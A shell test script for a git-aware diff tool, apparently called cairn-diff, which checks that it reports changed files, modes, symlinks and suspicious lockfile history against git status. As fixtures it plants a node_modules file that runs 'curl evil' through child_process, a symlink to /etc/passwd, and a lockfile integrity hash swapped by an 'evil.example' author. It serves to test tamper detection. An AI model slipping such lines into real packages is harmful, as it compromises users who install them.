#!/bin/sh
# --git against a repository built here (add, modify, chmod, symlink,
# delete, rename), compared with git status; --history of a lockfile.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
export GIT_AUTHOR_NAME=Alice GIT_AUTHOR_EMAIL=alice@example.org
export GIT_COMMITTER_NAME=Alice GIT_COMMITTER_EMAIL=alice@example.org
export GIT_CONFIG_NOSYSTEM=1 HOME=$PWD

git init -q repo
cd repo
mkdir -p node_modules/a sub
printf 'module.exports = 1\n' > node_modules/a/index.js
printf '#!/bin/sh\n' > run.sh
chmod +x run.sh
ln -s run.sh start
printf 'd\n' > sub/d.txt
printf 'bye\n' > gone.txt
printf '*.log\n' > .gitignore
git add -A && git commit -qm one
git mv sub/d.txt sub/e.txt && git commit -qm rename
cd ..

cairn-diff --git repo repo > clean.out || fail "clean checkout: exit $?"
grep -q '^no differences' clean.out || fail "clean checkout: $(cat clean.out)"

cd repo
printf 'module.exports = require("child_process").exec("curl evil")\n' > node_modules/a/index.js
chmod -x run.sh
rm start && ln -s /etc/passwd start
rm gone.txt
printf 'new\n' > new.js
printf 'noise\n' > debug.log
cd ..
set +e; cairn-diff --git repo repo > d.out; rc=$?; set -e
[ "$rc" = 1 ] || fail "exit $rc"
grep -q '^  ~ node_modules/a/index.js  100644 ' d.out || fail "modified"
grep -q '^  m run.sh  100755 .* -> 100644 ' d.out || fail "mode"
grep -q '^  ~ start  120000 ' d.out || fail "symlink"
grep -q '^  - gone.txt' d.out || fail "removed"
grep -q '^  + new.js' d.out || fail "added"
grep -q '^  + debug.log' d.out || fail "untracked without --gitignore"
set +e; cairn-diff --git repo --gitignore repo > g.out; set -e
! grep -q 'debug.log' g.out || fail "--gitignore"
grep -q '; 1 ignored' g.out || fail "ignored count"
# the same paths git status reports
set +e; cairn-diff --git repo --gitignore --json repo > g.json; set -e
jq -r '.changes[].path' g.json | sort > ours
(cd repo && git status --porcelain --untracked-files=all --no-renames) | cut -c4- | sort > theirs
cmp -s ours theirs || { diff ours theirs; fail "differs from git status"; }
# an older revision and a subfolder
mkdir copy && printf 'd\n' > copy/d.txt
cairn-diff --git repo --rev HEAD~1 --path sub copy > /dev/null || fail "--rev HEAD~1 --path sub"
set +e; cairn-diff --git repo --rev nope repo > /dev/null 2> e.err; rc=$?; set -e
[ "$rc" = 2 ] && grep -q "nope" e.err || fail "bad revision: exit $rc"

# lockfile history: a version bump, then an integrity change at the same version
cd repo
cat > package-lock.json <<'J'
{"lockfileVersion": 3, "packages": {"": {"name": "app"},
 "node_modules/a": {"version": "1.0.0", "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "integrity": "sha512-AAA"}}}
J
git add package-lock.json && git commit -qm 'add lockfile'
sed -i 's/1\.0\.0/1.0.1/g; s/sha512-AAA/sha512-AA1/' package-lock.json
GIT_AUTHOR_NAME=Bob git commit -qam 'bump a'
sed -i 's/sha512-AA1/sha512-EVIL/' package-lock.json
GIT_AUTHOR_NAME=Mallory GIT_AUTHOR_EMAIL=m@evil.example git commit -qam 'refresh lock'
cd ..
set +e; cairn-diff --git repo --history package-lock.json > h.out; rc=$?; set -e
[ "$rc" = 1 ] || fail "history exit $rc"
grep -q '3 commits changed it' h.out || fail "history count: $(head -1 h.out)"
grep -q 'author: Mallory <m@evil.example>' h.out || fail "author"
grep -q '!! node_modules/a: integrity-same-version sha512-AA1 -> sha512-EVIL' h.out ||
	fail "integrity red flag"
grep -q 'node_modules/a: version 1.0.0 -> 1.0.1' h.out || fail "version bump"
set +e; cairn-diff --git repo --history package-lock.json --json > h.json; set -e
jq -e '.mode == "history" and (.commits | length) == 3 and .commits[0].author == "Mallory"
       and .commits[0].changes[0].red_flag' h.json > /dev/null || fail "history JSON"
echo ok
